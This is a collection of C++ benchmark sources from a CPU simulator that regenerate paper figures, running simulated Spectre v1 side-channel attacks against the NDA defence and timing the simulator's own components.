    // exported Chrome trace shows the nda_defer slices of Fig 2.
    emitBenchObs(obs, "fig08_nda_defense", Profile::kStrict, sp,
                 [&](RunManifest &m, StatsRegistry &) {
                     m.set("cache_signal", cache_r.signal);
                     m.set("btb_signal", btb_r.signal);
                     m.set("blocked", blocked);
                 });
    return blocked ? 0 : 1;
}
