/**
 * @file
 * Regenerates paper Figure 8: the Figure 4 experiment repeated with
 * NDA permissive propagation enabled — the cycle dips disappear and
 * the secret byte is indistinguishable from the other 255 candidates,
 * regardless of covert channel.
 */

#include <cstdio>

#include "attacks/attacks.hh"
#include "bench_common.hh"
#include "harness/table_printer.hh"

using namespace nda;

int
main(int argc, char **argv)
{
    const SampleParams sp = parseSampleArgs(argc, argv);
    printBanner("Figure 8: Spectre v1 under NDA permissive propagation "
                "(cache and BTB channels)");
    std::printf("Paper reference: the Fig 4 cycle differences are "
                "eliminated;\nthe secret is concealed regardless of "
                "the covert channel.\n\n");

    const SimConfig cfg = makeProfile(Profile::kPermissive);
    const std::uint8_t secret = 42;

    // The two end-to-end attack simulations are independent; run
    // them on the pool (each owns its core and memory).
    SpectreV1Cache cache_attack;
    SpectreV1Btb btb_attack;
    AttackResult cache_r, btb_r;
    ThreadPool pool(std::min(2u, sp.jobs));
    pool.parallelFor(2, [&](std::size_t i) {
        if (i == 0)
            cache_r = cache_attack.run(cfg, secret);
        else
            btb_r = btb_attack.run(cfg, secret);
    });

    TablePrinter t({"channel", "t[secret]", "median-ish t", "signal",
                    "leaked"});
    auto row = [&](const char *name, const AttackResult &r) {
        t.addRow({name, TablePrinter::fmt(r.timings[r.secret], 0),
                  TablePrinter::fmt(r.timings[r.secret] + r.signal, 0),
                  TablePrinter::fmt(r.signal, 1),
                  r.leaked() ? "YES (!!)" : "no"});
    };
    row("d-cache", cache_r);
    row("BTB", btb_r);
    t.print();

    std::printf("\nSummary: NDA permissive blocks both channels: %s\n",
                !cache_r.leaked() && !btb_r.leaked() ? "yes" : "NO");
    return !cache_r.leaked() && !btb_r.leaked() ? 0 : 1;
}
