/**
 * @file
 * Regenerates paper Figure 8: the Figure 4 experiment repeated with
 * NDA permissive propagation enabled — the cycle dips disappear and
 * the secret byte is indistinguishable from the other 255 candidates,
 * regardless of covert channel.
 *
 * --smt=2 extends the figure with the cross-thread co-residency
 * channels (execution-port contention and MSHR occupancy): NDA
 * propagation defers the secret-dependent wakeups, so the co-resident
 * receiver's contention signal collapses too.
 */

#include <cstdio>

#include "attacks/attacks.hh"
#include "bench_common.hh"
#include "harness/table_printer.hh"

using namespace nda;

int
main(int argc, char **argv)
{
    BenchObs obs;
    BenchSmt smt;
    const SampleParams sp = parseSampleArgs(
        argc, argv, {BenchSmt::kUsageSmt}, &obs, nullptr, &smt);
    const bool co_resident = smt.threads >= 2;
    printBanner("Figure 8: Spectre v1 under NDA permissive propagation "
                "(cache and BTB channels)");
    std::printf("Paper reference: the Fig 4 cycle differences are "
                "eliminated;\nthe secret is concealed regardless of "
                "the covert channel.\n\n");

    const SimConfig cfg = makeProfile(Profile::kPermissive);
    const std::uint8_t secret = 42;

    // The end-to-end attack simulations are independent; run them on
    // the pool (each owns its core and memory). --smt=2 adds the two
    // co-resident channels; the attacks themselves request the second
    // hardware context via adjustConfig.
    SpectreV1Cache cache_attack;
    SpectreV1Btb btb_attack;
    SmotherPort port_attack;
    MshrContention mshr_attack;
    const std::size_t n_attacks = co_resident ? 4 : 2;
    std::vector<AttackResult> r(n_attacks);
    ScopedTimer attack_timer(obs.timings, "attacks");
    ThreadPool pool(std::min(static_cast<unsigned>(n_attacks),
                             sp.jobs));
    pool.parallelFor(n_attacks, [&](std::size_t i) {
        AttackBase *attacks[] = {&cache_attack, &btb_attack,
                                 &port_attack, &mshr_attack};
        r[i] = attacks[i]->run(cfg, secret);
    });
    attack_timer.stop();

    TablePrinter t({"channel", "t[secret]", "median-ish t", "signal",
                    "leaked"});
    auto row = [&](const char *name, const AttackResult &res) {
        t.addRow({name, TablePrinter::fmt(res.timings[res.secret], 0),
                  TablePrinter::fmt(res.timings[res.secret] +
                                        res.signal, 0),
                  TablePrinter::fmt(res.signal, 1),
                  res.leaked() ? "YES (!!)" : "no"});
    };
    row("d-cache", r[0]);
    row("BTB", r[1]);
    if (co_resident) {
        row("SMT exec port", r[2]);
        row("SMT MSHR", r[3]);
    }
    t.print();

    bool blocked = true;
    for (const AttackResult &res : r)
        blocked = blocked && !res.leaked();
    std::printf("\nSummary: NDA permissive blocks %s channels: %s\n",
                co_resident ? "all four" : "both",
                blocked ? "yes" : "NO");

    // Strict propagation defers every unsafe tag broadcast, so the
    // exported Chrome trace shows the nda_defer slices of Fig 2.
    emitBenchObs(obs, "fig08_nda_defense", Profile::kStrict, sp,
                 [&](RunManifest &m, StatsRegistry &) {
                     m.set("cache_signal", r[0].signal);
                     m.set("btb_signal", r[1].signal);
                     if (co_resident) {
                         m.set("smt_port_signal", r[2].signal);
                         m.set("smt_mshr_signal", r[3].signal);
                     }
                     m.set("blocked", blocked);
                 });
    return blocked ? 0 : 1;
}
