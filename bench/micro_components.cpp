/**
 * @file
 * google-benchmark micro-benchmarks of the simulator's building
 * blocks: cache/BTB/predictor operations, LSQ search, the reference
 * interpreter, and whole-core simulation rates. These measure the
 * *simulator's* performance (host-side), documenting the cost of a
 * simulated instruction under each security model.
 */

#include <benchmark/benchmark.h>

#include "bench_common.hh"
#include "branch/btb.hh"
#include "common/xrandom.hh"
#include "branch/direction_predictor.hh"
#include "core/core_factory.hh"
#include "harness/profiles.hh"
#include "isa/interpreter.hh"
#include "isa/random_program.hh"
#include "mem/cache.hh"
#include "mem/hierarchy.hh"
#include "workloads/workload.hh"

namespace {

using namespace nda;

void
BM_CacheAccess(benchmark::State &state)
{
    Cache cache(CacheParams{});
    XRandom rng(1);
    for (auto _ : state) {
        benchmark::DoNotOptimize(cache.access(rng.next() & 0xFFFFF));
    }
}
BENCHMARK(BM_CacheAccess);

void
BM_HierarchyPeek(benchmark::State &state)
{
    MemHierarchy hier;
    XRandom rng(1);
    for (int i = 0; i < 10000; ++i)
        hier.dataAccess(rng.next() & 0xFFFFF);
    for (auto _ : state) {
        benchmark::DoNotOptimize(hier.dataPeek(rng.next() & 0xFFFFF));
    }
}
BENCHMARK(BM_HierarchyPeek);

void
BM_BtbLookupUpdate(benchmark::State &state)
{
    Btb btb;
    XRandom rng(1);
    for (auto _ : state) {
        const Addr pc = rng.next() & 0xFFFF;
        benchmark::DoNotOptimize(btb.lookup(pc));
        btb.update(pc, pc + 1);
    }
}
BENCHMARK(BM_BtbLookupUpdate);

void
BM_DirectionPredict(benchmark::State &state)
{
    DirectionPredictor dp;
    XRandom rng(1);
    for (auto _ : state) {
        const Addr pc = rng.next() & 0xFFF;
        const auto h = dp.history();
        const bool taken = dp.predict(pc);
        dp.update(pc, taken, h);
    }
}
BENCHMARK(BM_DirectionPredict);

void
BM_InterpreterKips(benchmark::State &state)
{
    const Program prog = makeWorkload("compute")->build(1);
    for (auto _ : state) {
        state.PauseTiming();
        Interpreter it(prog);
        state.ResumeTiming();
        it.run(10000);
    }
    state.SetItemsProcessed(state.iterations() * 10000);
}
BENCHMARK(BM_InterpreterKips);

void
BM_CoreSimRate(benchmark::State &state)
{
    const auto profile = static_cast<Profile>(state.range(0));
    const Program prog = makeWorkload("mixed")->build(1);
    const SimConfig cfg = makeProfile(profile);
    for (auto _ : state) {
        state.PauseTiming();
        auto core = makeCore(prog, cfg);
        state.ResumeTiming();
        core->run(10000, ~Cycle{0});
    }
    state.SetItemsProcessed(state.iterations() * 10000);
    state.SetLabel(profileName(profile));
}
BENCHMARK(BM_CoreSimRate)
    ->Arg(static_cast<int>(Profile::kOoo))
    ->Arg(static_cast<int>(Profile::kFullProtection))
    ->Arg(static_cast<int>(Profile::kInOrder))
    ->Arg(static_cast<int>(Profile::kInvisiSpecFuture));

void
BM_RandomProgramGen(benchmark::State &state)
{
    std::uint64_t seed = 1;
    for (auto _ : state) {
        benchmark::DoNotOptimize(generateRandomProgram(seed++));
    }
}
BENCHMARK(BM_RandomProgramGen);

} // namespace

// Hand-rolled BENCHMARK_MAIN(): the shared observability flags are
// consumed (and compacted out of argv) before google-benchmark sees
// the remaining arguments, so both flag families coexist.
int
main(int argc, char **argv)
{
    logVerbosity = std::max(logVerbosity, 1);
    BenchObs obs;
    int kept = 1;
    for (int i = 1; i < argc; ++i) {
        if (!obs.parseArg(argv[i], argv[0]))
            argv[kept++] = argv[i];
    }
    argc = kept;

    benchmark::Initialize(&argc, argv);
    if (benchmark::ReportUnrecognizedArguments(argc, argv))
        return 1;
    {
        ScopedTimer bench_timer(obs.timings, "benchmarks");
        benchmark::RunSpecifiedBenchmarks();
    }
    benchmark::Shutdown();

    emitBenchObs(obs, "micro_components", Profile::kStrict,
                 SampleParams{});
    return 0;
}
