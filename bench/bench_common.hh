/**
 * @file
 * Shared helpers for the figure/table regeneration binaries.
 */

#ifndef NDASIM_BENCH_BENCH_COMMON_HH
#define NDASIM_BENCH_BENCH_COMMON_HH

#include <algorithm>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <functional>
#include <initializer_list>
#include <memory>
#include <string>

#include "ckpt/checkpoint_store.hh"
#include "common/log.hh"
#include "common/thread_pool.hh"
#include "core/core_factory.hh"
#include "core/ooo_core.hh"
#include "debug/pipe_trace.hh"
#include "harness/runner.hh"
#include "obs/cpi_stack.hh"
#include "obs/run_manifest.hh"
#include "obs/trace_export.hh"

namespace nda {

/** Print the shared usage text plus any binary-specific flags. */
inline void
printSampleUsage(const char *prog,
                 std::initializer_list<const char *> extra_flags)
{
    std::fprintf(stderr,
                 "usage: %s [options]\n"
                 "  --quick        1 sample, 10k warmup, 30k measured\n"
                 "  --samples=N    independently-seeded samples per "
                 "cell\n"
                 "  --insts=N      measured instructions per window\n"
                 "  --measure=N    alias for --insts=N\n"
                 "  --warmup=N     detailed warm-up instructions per "
                 "window\n"
                 "  --fastforward=N\n"
                 "                 functional fast-forward (with cache/"
                 "predictor warming)\n"
                 "                 before each window (default: 0)\n"
                 "  --no-reuse     rebuild the fast-forward checkpoint "
                 "for every window\n"
                 "                 instead of sharing one per "
                 "(workload, sample)\n"
                 "  --chain        chained sampling: --fastforward "
                 "becomes a stride and\n"
                 "                 sample s measures offset (s+1) x "
                 "stride of ONE run\n"
                 "  --seed=N       base RNG seed (sample s uses "
                 "seed+s)\n"
                 "  --jobs=N       concurrent simulation windows "
                 "(default: hardware threads; results are identical "
                 "for any N)\n"
                 "  --cpi-stack    attach the causal CPI-stack "
                 "profiler to every measured\n"
                 "                 window (per-cause slot attribution "
                 "+ per-PC hotspots)\n"
                 "  --stats-out=F  write a JSON run manifest (config, "
                 "phase timings,\n"
                 "                 full stats dump of one instrumented "
                 "window)\n"
                 "  --trace-out=F  write a pipeline trace of that "
                 "window\n"
                 "  --trace-format=chrome|konata|text\n"
                 "                 trace renderer (default: chrome, "
                 "Perfetto-loadable)\n"
                 "  --quiet        warnings and results only\n"
                 "  -v             verbose (debug-level) logging\n",
                 prog);
    for (const char *f : extra_flags)
        std::fprintf(stderr, "  %s\n", f);
}

/**
 * Observability knobs shared by every bench binary: where to write
 * the run manifest and the pipeline trace, which trace renderer to
 * use, and the wall-clock phase timings the manifest reports.
 */
struct BenchObs {
    std::string statsOut;    ///< --stats-out= (empty: no manifest)
    std::string traceOut;    ///< --trace-out= (empty: no trace)
    TraceFormat traceFormat = TraceFormat::kChrome;
    PhaseTimings timings;

    bool wantStats() const { return !statsOut.empty(); }
    bool wantTrace() const { return !traceOut.empty(); }
    bool enabled() const { return wantStats() || wantTrace(); }

    /** Consume one argv token; false if it is not an obs flag. */
    bool
    parseArg(const std::string &arg, const char *prog)
    {
        if (arg.rfind("--stats-out=", 0) == 0) {
            statsOut = arg.substr(12);
        } else if (arg.rfind("--trace-out=", 0) == 0) {
            traceOut = arg.substr(12);
        } else if (arg.rfind("--trace-format=", 0) == 0) {
            if (!parseTraceFormat(arg.substr(15), traceFormat)) {
                std::fprintf(stderr,
                             "%s: unknown trace format in '%s' "
                             "(expected chrome, konata, or text)\n",
                             prog, arg.c_str());
                std::exit(2);
            }
        } else if (arg == "--quiet" || arg == "-q") {
            logVerbosity = 0;
        } else if (arg == "-v" || arg == "--verbose") {
            logVerbosity = 2;
        } else {
            return false;
        }
        return true;
    }
};

/**
 * Checkpoint-corpus knobs shared by the grid-driving bench binaries
 * (fig07_cpi, table02_overheads, sim_throughput, grid_server): where
 * the on-disk corpus lives, its LRU size cap, and an off switch that
 * wins over --ckpt-dir so scripts can layer flags.
 */
struct BenchCkpt {
    std::string dir;             ///< --ckpt-dir= (empty: no corpus)
    std::uint64_t maxBytes = 0;  ///< --ckpt-max-bytes= (0: unbounded)
    bool disabled = false;       ///< --no-ckpt

    bool wantCorpus() const { return !dir.empty() && !disabled; }

    /** Open the corpus, or nullptr when none was requested. The
     *  returned store must outlive every runGrid call using it. */
    std::unique_ptr<CheckpointStore>
    open() const
    {
        if (!wantCorpus())
            return nullptr;
        return std::make_unique<CheckpointStore>(dir, maxBytes);
    }

    /** Usage lines for printSampleUsage's `extra_flags`. */
    static constexpr const char *kUsageDir =
        "--ckpt-dir=DIR persistent checkpoint corpus (shared across "
        "runs)";
    static constexpr const char *kUsageMaxBytes =
        "--ckpt-max-bytes=N\n"
        "                 LRU size cap for the corpus (0 = unbounded)";
    static constexpr const char *kUsageNoCkpt =
        "--no-ckpt      ignore --ckpt-dir and run without a corpus";

    /** Consume one argv token; false if it is not a corpus flag. */
    bool
    parseArg(const std::string &arg, const char *prog)
    {
        if (arg.rfind("--ckpt-dir=", 0) == 0) {
            dir = arg.substr(11);
            if (dir.empty()) {
                std::fprintf(stderr, "%s: --ckpt-dir= needs a path\n",
                             prog);
                std::exit(2);
            }
        } else if (arg.rfind("--ckpt-max-bytes=", 0) == 0) {
            const std::string value = arg.substr(17);
            std::size_t consumed = 0;
            unsigned long long n = 0;
            try {
                n = std::stoull(value, &consumed);
            } catch (const std::exception &) {
            }
            if (value.empty() || consumed != value.size()) {
                std::fprintf(stderr,
                             "%s: invalid value in '%s' (expected a "
                             "number of bytes)\n",
                             prog, arg.c_str());
                std::exit(2);
            }
            maxBytes = n;
        } else if (arg == "--no-ckpt") {
            disabled = true;
        } else {
            return false;
        }
        return true;
    }
};

/**
 * Strict numeric parse for a binary-specific value flag, with the
 * same contract as the shared flags: malformed or empty values print
 * the usage text and exit 2 instead of throwing.
 */
inline unsigned long long
parseFlagNumber(const char *prog, const std::string &arg,
                std::size_t prefix_len,
                std::initializer_list<const char *> extra = {})
{
    const std::string value = arg.substr(prefix_len);
    std::size_t consumed = 0;
    unsigned long long n = 0;
    try {
        n = std::stoull(value, &consumed);
    } catch (const std::exception &) {
    }
    if (value.empty() || consumed != value.size()) {
        std::fprintf(stderr,
                     "%s: invalid value in '%s' (expected a number)\n",
                     prog, arg.c_str());
        printSampleUsage(prog, extra);
        std::exit(2);
    }
    return n;
}

/**
 * SMT co-residency knobs shared by the grid and attack benches:
 * --smt=N sets the hardware-thread count on every simulated core
 * (--smt=1 is an explicit single-thread run, bit-identical to the
 * default configs), --smt-policy=rr|icount picks the fetch
 * arbitration between the contexts.
 */
struct BenchSmt {
    unsigned threads = 0; ///< 0 = leave the configs untouched
    SmtFetchPolicy policy = SmtFetchPolicy::kRoundRobin;
    bool policySet = false;

    static constexpr const char *kUsageSmt =
        "--smt=N        hardware threads per core (1 = explicit "
        "single-thread)";
    static constexpr const char *kUsagePolicy =
        "--smt-policy=P SMT fetch arbitration: rr (default) or icount";

    /** Apply the parsed knobs to one grid config (no-op when unset). */
    void
    apply(SimConfig &cfg) const
    {
        if (threads)
            cfg.core.smtThreads = threads;
        if (policySet)
            cfg.core.smtFetchPolicy = policy;
    }

    /** Consume one argv token; false if it is not an SMT flag. */
    bool
    parseArg(const std::string &arg, const char *prog)
    {
        if (arg.rfind("--smt=", 0) == 0) {
            threads =
                static_cast<unsigned>(parseFlagNumber(prog, arg, 6));
            if (threads == 0) {
                std::fprintf(stderr,
                             "%s: --smt= needs at least one thread\n",
                             prog);
                std::exit(2);
            }
        } else if (arg.rfind("--smt-policy=", 0) == 0) {
            const std::string value = arg.substr(13);
            if (value == "rr") {
                policy = SmtFetchPolicy::kRoundRobin;
            } else if (value == "icount") {
                policy = SmtFetchPolicy::kIcount;
            } else {
                std::fprintf(stderr,
                             "%s: unknown SMT fetch policy '%s' "
                             "(expected rr or icount)\n",
                             prog, value.c_str());
                std::exit(2);
            }
            policySet = true;
        } else {
            return false;
        }
        return true;
    }
};

/**
 * Parse the shared sampling flags from argv. Unrecognized arguments
 * abort with a usage message: a misspelled flag silently falling back
 * to defaults has burned enough measurement time already.
 *
 * Binary-specific options are declared via `extra`: entries ending in
 * '=' are matched as prefixes (value flags), others exactly; matches
 * are left for the caller to handle.
 */
inline SampleParams
parseSampleArgs(int argc, char **argv,
                std::initializer_list<const char *> extra = {},
                BenchObs *obs = nullptr, BenchCkpt *ckpt = nullptr,
                BenchSmt *smt = nullptr)
{
    SampleParams p;
    p.jobs = ThreadPool::defaultConcurrency();
    // Benches narrate via NDA_INFORM by default; --quiet/-v adjust.
    logVerbosity = std::max(logVerbosity, 1);
    for (int i = 1; i < argc; ++i) {
        const std::string arg = argv[i];
        if (obs && obs->parseArg(arg, argv[0]))
            continue;
        if (ckpt && ckpt->parseArg(arg, argv[0]))
            continue;
        if (smt && smt->parseArg(arg, argv[0]))
            continue;
        const auto accepted = [&arg](const char *flag) {
            const std::size_t len = std::strlen(flag);
            return len > 0 && flag[len - 1] == '='
                       ? arg.rfind(flag, 0) == 0
                       : arg == flag;
        };
        // Numeric flag value, or usage + exit(2) on malformed input.
        const auto number = [&](std::size_t prefix_len) {
            const std::string value = arg.substr(prefix_len);
            std::size_t consumed = 0;
            unsigned long long n = 0;
            try {
                n = std::stoull(value, &consumed);
            } catch (const std::exception &) {
            }
            if (value.empty() || consumed != value.size()) {
                std::fprintf(stderr,
                             "%s: invalid value in '%s' (expected a "
                             "number)\n",
                             argv[0], arg.c_str());
                printSampleUsage(argv[0], extra);
                std::exit(2);
            }
            return n;
        };
        if (arg == "--quick") {
            p.samples = 1;
            p.warmupInsts = 10'000;
            p.measureInsts = 30'000;
        } else if (arg.rfind("--samples=", 0) == 0) {
            p.samples = static_cast<unsigned>(number(10));
        } else if (arg.rfind("--insts=", 0) == 0) {
            p.measureInsts = number(8);
        } else if (arg.rfind("--measure=", 0) == 0) {
            p.measureInsts = number(10);
        } else if (arg.rfind("--warmup=", 0) == 0) {
            p.warmupInsts = number(9);
        } else if (arg.rfind("--fastforward=", 0) == 0) {
            p.fastforwardInsts = number(14);
        } else if (arg == "--no-reuse") {
            p.reuseCheckpoints = false;
        } else if (arg == "--chain") {
            p.chainSamples = true;
        } else if (arg == "--cpi-stack") {
            p.cpiStack = true;
        } else if (arg.rfind("--seed=", 0) == 0) {
            p.baseSeed = number(7);
        } else if (arg.rfind("--jobs=", 0) == 0) {
            p.jobs = static_cast<unsigned>(number(7));
            if (p.jobs == 0)
                p.jobs = ThreadPool::defaultConcurrency();
        } else if (arg == "--help" || arg == "-h") {
            printSampleUsage(argv[0], extra);
            std::exit(0);
        } else if (std::none_of(extra.begin(), extra.end(),
                                accepted)) {
            std::fprintf(stderr, "%s: unrecognized argument '%s'\n",
                         argv[0], arg.c_str());
            printSampleUsage(argv[0], extra);
            std::exit(2);
        }
    }
    // Reject degenerate parameter sets (e.g. --insts=0) up front,
    // before any measurement time is spent.
    p.validate();
    return p;
}

/** `\r`-style progress meter for grid sweeps (stderr; silenced by
 *  --quiet). */
inline void
gridProgress(std::size_t done, std::size_t total)
{
    if (logVerbosity < 1)
        return;
    std::fprintf(stderr, "\r  %zu/%zu windows", done, total);
    if (done == total)
        std::fprintf(stderr, "\n");
}

/** Write `content` to `path`; NDA_WARNs instead of aborting, so a
 *  bad output path never discards the run that produced the data. */
inline bool
writeBenchFile(const std::string &path, const std::string &content)
{
    std::FILE *f = std::fopen(path.c_str(), "w");
    if (!f) {
        NDA_WARN("cannot open '%s' for writing", path.c_str());
        return false;
    }
    const std::size_t n =
        std::fwrite(content.data(), 1, content.size(), f);
    const int closed = std::fclose(f);
    if (n != content.size() || closed != 0) {
        NDA_WARN("short write to '%s'", path.c_str());
        return false;
    }
    NDA_INFORM("wrote %s", path.c_str());
    return true;
}

/**
 * Emit the requested observability artifacts by running one
 * *representative instrumented window*: a fresh core on `profile`
 * with every component bound into a StatsRegistry and (if a trace was
 * requested) the PipeTrace retire hook attached. Bench binaries call
 * this once, after their main measurement, with the profile that best
 * characterizes what they measure — under any NDA profile the Chrome
 * trace shows the complete->broadcast deferral as `nda_defer` slices.
 *
 * `extra` (optional) runs before the manifest is rendered so the
 * bench can add result fields and bind additional stats (e.g. the
 * fuzzing campaign totals); anything bound there must outlive the
 * call.
 */
inline void
emitBenchObs(BenchObs &obs, const char *bench, Profile profile,
             const SampleParams &sp,
             const std::function<void(RunManifest &, StatsRegistry &)>
                 &extra = nullptr)
{
    if (!obs.enabled())
        return;

    const std::unique_ptr<Workload> workload = makeWorkload("mixed");
    const SimConfig cfg = makeProfile(profile);
    const Program prog = workload->build(sp.baseSeed);
    const auto core = makeCore(prog, cfg);

    StatsRegistry reg;
    core->registerStats(reg, "core");

    // The instrumented window always carries the CPI-stack profiler:
    // its slot decomposition belongs in every manifest (and keeps the
    // manifest's stats dump congruent with the registry schema).
    CpiStackProfiler cpi(cfg.inOrder ? 1u : cfg.core.commitWidth);
    core->attachCpiStack(&cpi);
    cpi.registerStats(reg, "core.cpi_stack");

    PipeTrace trace;
    if (obs.wantTrace()) {
        // Only the OoO pipeline has a per-instruction retire hook.
        if (auto *ooo = dynamic_cast<OooCore *>(core.get()))
            ooo->setRetireHook(trace.hook());
        else
            NDA_WARN("profile '%s' has no pipeline trace hook; "
                     "'%s' will hold an empty trace",
                     profileName(profile), obs.traceOut.c_str());
    }

    {
        ScopedTimer timer(obs.timings, "instrumented-window");
        core->run(sp.warmupInsts, ~Cycle{0});
        core->resetCounters();
        cpi.reset();
        trace.clear();
        core->run(sp.measureInsts, ~Cycle{0});
    }

    if (obs.wantTrace()) {
        const TraceExporter exporter(trace.records());
        writeBenchFile(obs.traceOut, exporter.render(obs.traceFormat));
    }

    if (obs.wantStats()) {
        RunManifest m(bench);
        m.set("profile", profileName(profile));
        m.set("workload", workload->name());
        m.set("seed", sp.baseSeed);
        m.set("samples", static_cast<std::uint64_t>(sp.samples));
        m.set("fastforward_insts", sp.fastforwardInsts);
        m.set("warmup_insts", sp.warmupInsts);
        m.set("measure_insts", sp.measureInsts);
        m.set("jobs", static_cast<std::uint64_t>(sp.jobs));
        m.set("reuse_checkpoints", sp.reuseCheckpoints);
        // Latency-distribution summaries of the instrumented window
        // (Fig 9d's dispatch-to-issue plus the two NDA residency
        // histograms) — the full distributions live under "stats".
        const PerfCounters &pcs = core->counters();
        const auto pct = [&m](const char *base, const Histogram &h) {
            const std::string k(base);
            m.set(k + "_p50", h.percentile(0.50));
            m.set(k + "_p95", h.percentile(0.95));
            m.set(k + "_p99", h.percentile(0.99));
        };
        pct("dispatch_to_issue", pcs.dispatchToIssue);
        pct("deferred_delay", pcs.deferredBroadcastDelay);
        pct("unsafe_residency", pcs.unsafeResidency);
        // Where the window's lost slots went, by PC.
        m.setRaw("cpi_hotspots", cpi.hotspots().topJson(kHotspotTopN));
        if (obs.wantTrace()) {
            m.set("trace_out", obs.traceOut);
            m.set("trace_format", traceFormatName(obs.traceFormat));
        }
        if (extra)
            extra(m, reg);
        m.setTimings(&obs.timings);
        m.setStats(&reg);
        if (m.writeFile(obs.statsOut))
            NDA_INFORM("wrote %s", obs.statsOut.c_str());
    }
}

} // namespace nda

#endif // NDASIM_BENCH_BENCH_COMMON_HH
