/**
 * @file
 * Shared helpers for the figure/table regeneration binaries.
 */

#ifndef NDASIM_BENCH_BENCH_COMMON_HH
#define NDASIM_BENCH_BENCH_COMMON_HH

#include <algorithm>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <initializer_list>
#include <string>

#include "common/thread_pool.hh"
#include "harness/runner.hh"

namespace nda {

/** Print the shared usage text plus any binary-specific flags. */
inline void
printSampleUsage(const char *prog,
                 std::initializer_list<const char *> extra_flags)
{
    std::fprintf(stderr,
                 "usage: %s [options]\n"
                 "  --quick        1 sample, 10k warmup, 30k measured\n"
                 "  --samples=N    independently-seeded samples per "
                 "cell\n"
                 "  --insts=N      measured instructions per window\n"
                 "  --warmup=N     warm-up instructions per window\n"
                 "  --seed=N       base RNG seed (sample s uses "
                 "seed+s)\n"
                 "  --jobs=N       concurrent simulation windows "
                 "(default: hardware threads; results are identical "
                 "for any N)\n",
                 prog);
    for (const char *f : extra_flags)
        std::fprintf(stderr, "  %s\n", f);
}

/**
 * Parse the shared sampling flags from argv. Unrecognized arguments
 * abort with a usage message: a misspelled flag silently falling back
 * to defaults has burned enough measurement time already.
 *
 * Binary-specific options are declared via `extra`: entries ending in
 * '=' are matched as prefixes (value flags), others exactly; matches
 * are left for the caller to handle.
 */
inline SampleParams
parseSampleArgs(int argc, char **argv,
                std::initializer_list<const char *> extra = {})
{
    SampleParams p;
    p.jobs = ThreadPool::defaultConcurrency();
    for (int i = 1; i < argc; ++i) {
        const std::string arg = argv[i];
        const auto accepted = [&arg](const char *flag) {
            const std::size_t len = std::strlen(flag);
            return len > 0 && flag[len - 1] == '='
                       ? arg.rfind(flag, 0) == 0
                       : arg == flag;
        };
        // Numeric flag value, or usage + exit(2) on malformed input.
        const auto number = [&](std::size_t prefix_len) {
            const std::string value = arg.substr(prefix_len);
            std::size_t consumed = 0;
            unsigned long long n = 0;
            try {
                n = std::stoull(value, &consumed);
            } catch (const std::exception &) {
            }
            if (value.empty() || consumed != value.size()) {
                std::fprintf(stderr,
                             "%s: invalid value in '%s' (expected a "
                             "number)\n",
                             argv[0], arg.c_str());
                printSampleUsage(argv[0], extra);
                std::exit(2);
            }
            return n;
        };
        if (arg == "--quick") {
            p.samples = 1;
            p.warmupInsts = 10'000;
            p.measureInsts = 30'000;
        } else if (arg.rfind("--samples=", 0) == 0) {
            p.samples = static_cast<unsigned>(number(10));
        } else if (arg.rfind("--insts=", 0) == 0) {
            p.measureInsts = number(8);
        } else if (arg.rfind("--warmup=", 0) == 0) {
            p.warmupInsts = number(9);
        } else if (arg.rfind("--seed=", 0) == 0) {
            p.baseSeed = number(7);
        } else if (arg.rfind("--jobs=", 0) == 0) {
            p.jobs = static_cast<unsigned>(number(7));
            if (p.jobs == 0)
                p.jobs = ThreadPool::defaultConcurrency();
        } else if (arg == "--help" || arg == "-h") {
            printSampleUsage(argv[0], extra);
            std::exit(0);
        } else if (std::none_of(extra.begin(), extra.end(),
                                accepted)) {
            std::fprintf(stderr, "%s: unrecognized argument '%s'\n",
                         argv[0], arg.c_str());
            printSampleUsage(argv[0], extra);
            std::exit(2);
        }
    }
    return p;
}

/** `\r`-style progress meter for grid sweeps (stderr). */
inline void
gridProgress(std::size_t done, std::size_t total)
{
    std::fprintf(stderr, "\r  %zu/%zu windows", done, total);
    if (done == total)
        std::fprintf(stderr, "\n");
}

} // namespace nda

#endif // NDASIM_BENCH_BENCH_COMMON_HH
