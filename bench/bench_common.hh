/**
 * @file
 * Shared helpers for the figure/table regeneration binaries.
 */

#ifndef NDASIM_BENCH_BENCH_COMMON_HH
#define NDASIM_BENCH_BENCH_COMMON_HH

#include <cstring>
#include <string>

#include "harness/runner.hh"

namespace nda {

/** Parse --quick / --samples=N / --insts=N from argv. */
inline SampleParams
parseSampleArgs(int argc, char **argv)
{
    SampleParams p;
    for (int i = 1; i < argc; ++i) {
        const std::string arg = argv[i];
        if (arg == "--quick") {
            p.samples = 1;
            p.warmupInsts = 10'000;
            p.measureInsts = 30'000;
        } else if (arg.rfind("--samples=", 0) == 0) {
            p.samples = static_cast<unsigned>(
                std::stoul(arg.substr(10)));
        } else if (arg.rfind("--insts=", 0) == 0) {
            p.measureInsts = std::stoull(arg.substr(8));
        } else if (arg.rfind("--warmup=", 0) == 0) {
            p.warmupInsts = std::stoull(arg.substr(9));
        }
    }
    return p;
}

} // namespace nda

#endif // NDASIM_BENCH_BENCH_COMMON_HH
