/**
 * @file
 * Regenerates paper Figure 4: Spectre v1 per-guess timing through the
 * d-cache covert channel (~140-cycle dip at the secret) and through
 * the BTB covert channel (~16-cycle dip), on the insecure OoO core.
 */

#include <cstdio>

#include "attacks/attacks.hh"
#include "bench_common.hh"
#include "harness/table_printer.hh"

using namespace nda;

namespace {

void
printSeries(const char *channel, const AttackResult &r)
{
    std::printf("\n%s channel: secret byte = %d, recovered fastest "
                "guess = %d, signal = %.1f cycles (leaked: %s)\n",
                channel, r.secret, r.fastestGuess, r.signal,
                r.leaked() ? "YES" : "no");
    std::printf("%8s %10s\n", "guess", "cycles");
    double max_t = 0;
    for (double t : r.timings)
        max_t = std::max(max_t, t);
    for (int g = 0; g < 256; ++g) {
        // Print every 16th guess plus the secret and its neighbours
        // so the dip is visible in text form.
        const bool interesting =
            g % 16 == 0 || g == r.secret || g == r.secret - 1 ||
            g == r.secret + 1;
        if (!interesting)
            continue;
        std::printf("%8d %10.0f  |%s%s\n", g, r.timings[g],
                    asciiBar(r.timings[g], max_t, 40).c_str(),
                    g == r.secret ? "   <-- secret" : "");
    }
}

} // namespace

int
main(int argc, char **argv)
{
    BenchObs obs;
    const SampleParams sp = parseSampleArgs(argc, argv, {}, &obs);
    printBanner("Figure 4: Spectre v1 guess timing, cache vs BTB "
                "covert channel (insecure OoO)");
    std::printf(
        "Paper reference: cache channel shows a ~140-cycle faster\n"
